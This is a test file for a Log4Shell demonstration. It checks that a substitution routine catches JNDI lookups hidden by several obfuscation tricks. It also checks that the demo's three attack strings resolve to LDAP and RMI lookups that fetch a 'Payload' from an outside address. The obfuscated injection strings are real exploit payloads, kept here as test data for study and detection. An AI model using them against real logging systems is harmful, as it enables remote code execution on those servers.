import t from "tap";
import { attacks } from "../../demo/log4shell/attack.ts";
import { type Lookup, substitute } from "../../demo/log4shell/substitute.ts";

/** Answers the text that was left, and the names that JNDI was asked for. */
async function asked(text: string): Promise<{ readonly left: string; readonly names: readonly string[] }> {
  const names: string[] = [];
  const lookup: Lookup = async (prefix, key) => {
    if (prefix === "jndi") return `found ${names.push(key)}`;
    if (prefix === "lower") return key.toLowerCase();
    if (prefix === "upper") return key.toUpperCase();
    return prefix === "env" && key === "HOME" ? "/root" : undefined;
  };
  return { left: await substitute(text, lookup), names };
}

await t.test("a name for JNDI is found however it is written", async (t) => {
  for (const text of [
    "${jndi:ldap://a/b}",
    "GET / ${jndi:ldap://a/b} and more",
    "${${lower:J}ndi:ldap://a/b}",
    "${${lower:j}${upper:n}${lower:d}i:ldap://a/b}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://a/b}",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://a/b}",
    "${${lower:${lower:${::-J}}}ndi:ldap://a/b}",
    "${nothing:-${jndi:ldap://a/b}}",
  ]) {
    t.strictSame((await asked(text)).names, ["ldap://a/b"], text);
  }
});

await t.test("the demo's three strings are lookups over LDAP and RMI", async (t) => {
  const found = await Promise.all(Object.values(attacks).map(async (text) => (await asked(text)).names));
  t.strictSame(found, [
    ["ldap://203.0.113.66:1389/Payload"],
    ["ldap://203.0.113.66:1389/Payload"],
    ["rmi://203.0.113.66:1099/Payload"],
  ]);
});

await t.test("what is no lookup stays as it is written", async (t) => {
  for (const text of ["", "plain", "${", "${open ${lower:", "}${}", "${nobody:knows}", "$ {jndi:x}"]) {
    t.strictSame(await asked(text), { left: text, names: [] }, text);
  }
  t.strictSame(await asked("${env:HOME}/${env:NOPE:-x:-y}"), { left: "/root/x:-y", names: [] });
});

await t.test("a lookup that answers itself ends", async (t) => {
  t.equal(await substitute("${a:a}", async () => "${a:a}"), "${a:a}");
  const deep = `${"${a:".repeat(5000)}${"}".repeat(5000)}`;
  t.type(await substitute(deep, async () => undefined), "string");
});
